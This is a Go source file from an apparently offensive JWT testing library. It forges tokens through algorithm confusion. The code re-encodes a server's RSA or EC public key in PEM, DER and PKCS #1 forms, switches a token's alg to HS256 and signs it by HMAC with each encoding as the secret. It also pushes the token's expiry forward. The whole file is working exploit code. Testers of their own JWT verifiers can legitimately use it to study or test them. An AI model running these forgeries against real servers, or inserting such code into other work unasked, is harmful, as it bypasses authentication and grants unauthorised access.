package jwt

import (
	"crypto"
	"crypto/rsa"
	"crypto/x509"
	"encoding/pem"
	"fmt"
	"time"
)

// PublicKeySecret is one encoding of a public key that a verifier
// confused into HMAC may use as the secret.
type PublicKeySecret struct {
	// Name says which encoding it is, e.g. "PKIX PEM without trailing
	// newline".
	Name string
	// Secret is the encoded key.
	Secret []byte
}

// PublicKeySecrets returns the encodings of pub (an *rsa.PublicKey, an
// *ecdsa.PublicKey or any key crypto/x509 marshals) that libraries hand
// to an HMAC when the token says HS256 but the key is a public key: the
// PKIX "PUBLIC KEY" PEM with and without its trailing newline, the PKIX
// DER, and for RSA the PKCS #1 "RSA PUBLIC KEY" PEM with and without its
// trailing newline.
func PublicKeySecrets(pub crypto.PublicKey) ([]PublicKeySecret, error) {
	der, err := x509.MarshalPKIXPublicKey(pub)
	if err != nil {
		return nil, fmt.Errorf("public key secrets: %w", err)
	}
	pkix := pem.EncodeToMemory(&pem.Block{Type: "PUBLIC KEY", Bytes: der})
	out := []PublicKeySecret{
		{"PKIX PEM", pkix},
		{"PKIX PEM without trailing newline", pkix[:len(pkix)-1]},
		{"PKIX DER", der},
	}
	if k, ok := pub.(*rsa.PublicKey); ok {
		pkcs1 := pem.EncodeToMemory(&pem.Block{Type: "RSA PUBLIC KEY", Bytes: x509.MarshalPKCS1PublicKey(k)})
		out = append(out,
			PublicKeySecret{"PKCS #1 PEM", pkcs1},
			PublicKeySecret{"PKCS #1 PEM without trailing newline", pkcs1[:len(pkcs1)-1]})
	}
	return out, nil
}

// AlgConfusion builds, for an RS*, PS* or ES* token, HS256 forgeries
// signed with each of PublicKeySecrets(pub) as the HMAC secret, pub being
// the server's verification key (from its JWKS: ParseJWKS, then
// JWKS.ForToken). The header keeps every member of t's (kid included) but
// alg, which says HS256; the claims are t's with exp, when present,
// ForgedLifetime after now. It fails for other algs.
func AlgConfusion(t *Token, pub crypto.PublicKey, now time.Time) ([]Forged, error) {
	if !t.IsAsymmetric() {
		return nil, fmt.Errorf("alg confusion: alg %q: %w", t.Alg(), errNotAsymmetric)
	}
	secrets, err := PublicKeySecrets(pub)
	if err != nil {
		return nil, fmt.Errorf("alg confusion: %w", err)
	}
	claims := forgedClaims(t, now)
	out := make([]Forged, 0, len(secrets))
	for _, s := range secrets {
		h := copyMap(t.Header)
		h["alg"] = "HS256"
		f, err := hmacForgery(AlgConfusionHMAC, t.Alg()+" to HS256, HMAC secret the public key as "+s.Name, h, copyMap(claims), s.Secret)
		if err != nil {
			return nil, fmt.Errorf("alg confusion: %w", err)
		}
		out = append(out, f)
	}
	return out, nil
}
